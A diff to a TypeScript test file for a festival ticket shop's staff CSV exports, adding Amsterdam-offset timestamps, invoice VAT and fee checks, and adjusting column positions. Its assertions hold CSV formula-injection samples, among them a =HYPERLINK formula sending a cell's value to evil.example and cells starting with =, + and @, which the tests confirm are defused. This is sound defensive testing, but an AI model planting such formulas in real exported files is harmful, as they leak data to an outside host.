@@ -1,4 +1,4 @@
-import { staffAdminMessages, staffApi, staffExportMessages, type Order } from '@festival/contract';
+import { isoInZone, staffAdminMessages, staffApi, staffExportMessages, type Order } from '@festival/contract';
 import { and, asc, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { testEngines } from '../../../test/databases';
@@ -7,7 +7,7 @@ import { staffCall } from '../../../test/staff-call';
 import { signedInStaff } from '../../../test/staff-sign-in';
 import { createStatementRecorder } from '../../../test/statement-recorder';
 import { createTestShop, type TestShop } from '../../../test/test-shop';
-import { checkinLists, checkins, checkinStates, customers, events, orders, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
+import { checkinLists, checkins, checkinStates, customers, events, invoices, orders, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
 import { CSV_BOM, readCsv, undefused } from './csv';
 
 const SECRET = 'exports-test-secret-of-at-least-32-characters';
@@ -117,13 +117,23 @@ describe.each(testEngines())('the exports on %s', (engine) => {
       refunded: '0.00',
       payment_method: 'credit_card',
     });
-    expect(new Date(row.created_at as string).toISOString()).toBe(row.created_at);
+    // The event's clocks with their offset (Amsterdam, winter or summer), the same instant as the order's.
+    const [placed] = await shop.database.db.select({ at: orders.createdAt }).from(orders).where(eq(orders.id, order.id));
+    expect(row.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+0[12]:00$/);
+    expect(Date.parse(row.created_at as string)).toBe(placed!.at.getTime());
+    // VAT as the order's invoice states it, the booking fees, shipping, voucher and the channel it was sold through.
+    const [invoice] = await shop.database.db.select({ content: invoices.content }).from(invoices).where(eq(invoices.orderId, order.id));
+    const invoiceVat = (invoice!.content as { rates: { tax: number }[] }).rates.reduce((sum, rate) => sum + rate.tax, 0);
+    const fees = [...order.tickets, ...order.merchandisePurchases].reduce((sum, item) => sum + item.fee, 0);
+    expect(invoiceVat).toBeGreaterThan(0);
+    expect(fees).toBeGreaterThan(0);
+    expect(row).toMatchObject({ channel: 'Online', vat_minor: invoiceVat, fees_minor: fees, fees: `${Math.floor(fees / 100)}.${String(fees % 100).padStart(2, '0')}`, voucher: null, discount_minor: 0, shipping_minor: order.shipping_amount });
     expect((row.items as { code: string }[]).map((item) => item.code).sort()).toEqual([...order.tickets.map((ticket) => ticket.code), ...order.merchandisePurchases.map((purchase) => purchase.code)].sort());
     expect(rows.map((candidate) => candidate.code)).not.toContain('OTHERORDER1');
     // Every row ends in CRLF; the formula is defused in the file itself.
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
-    expect(cells.find((candidate) => candidate[0] === order.code)![2]).toBe(`'${HOSTILE_BUYER}`);
+    expect(cells.find((candidate) => candidate[0] === order.code)![3]).toBe(`'${HOSTILE_BUYER}`);
     // The whole shop: the other event's order too.
     expect((await both('orders')).rows.map((candidate) => candidate.code)).toContain('OTHERORDER1');
   });
@@ -135,7 +145,7 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     expect(byCode.get(first!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[0], product: first!.product, event: 'NWF27', checkin: 'inside', status: 'active', order_code: order.code, travel_time: null });
     expect(byCode.get(second!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[1], checkin: 'left' });
     expect(byCode.get(third!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[2], checkin: 'never' });
-    expect(byCode.get(shuttle!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[3], travel_time: departure.toISOString() });
+    expect(byCode.get(shuttle!.code)).toMatchObject({ holder_name: HOSTILE_HOLDERS[3], travel_time: isoInZone(departure, 'Europe/Amsterdam') });
     expect(byCode.has(otherTicket)).toBe(false);
     const raw = new Map(cells.map((row) => [row[5], row]));
     expect(raw.get(first!.code)![0]).toBe("'@SUM(A1:A9)");
@@ -150,11 +160,11 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     const { rows, cells } = await both('checkins', 'NWF27');
     const [first, second] = order.tickets;
     expect(rows).toEqual([
-      { ticket: first!.code, list: listCode, gate: 'North', direction: 'in', at: '2027-06-18T12:00:00.000Z', scanner: '+Gate phone 1', offline: false },
-      { ticket: second!.code, list: listCode, gate: '=South', direction: 'in', at: '2027-06-18T12:00:00.000Z', scanner: '+Gate phone 1', offline: false },
-      { ticket: second!.code, list: listCode, gate: 'South', direction: 'out', at: '2027-06-18T12:01:00.000Z', scanner: null, offline: true },
+      { ticket: first!.code, list: listCode, gate: 'North', direction: 'in', at: '2027-06-18T14:00:00.000+02:00', scanner: '+Gate phone 1', offline: false },
+      { ticket: second!.code, list: listCode, gate: '=South', direction: 'in', at: '2027-06-18T14:00:00.000+02:00', scanner: '+Gate phone 1', offline: false },
+      { ticket: second!.code, list: listCode, gate: 'South', direction: 'out', at: '2027-06-18T14:01:00.000+02:00', scanner: null, offline: true },
     ]);
-    expect(cells[1]).toEqual([second!.code, listCode, "'=South", 'in', '2027-06-18T12:00:00.000Z', "'+Gate phone 1", 'false']);
+    expect(cells[1]).toEqual([second!.code, listCode, "'=South", 'in', '2027-06-18T14:00:00.000+02:00', "'+Gate phone 1", 'false']);
   });
 
   it('records every export in the audit log, refuses an unknown event, and is not for the box office', async () => {
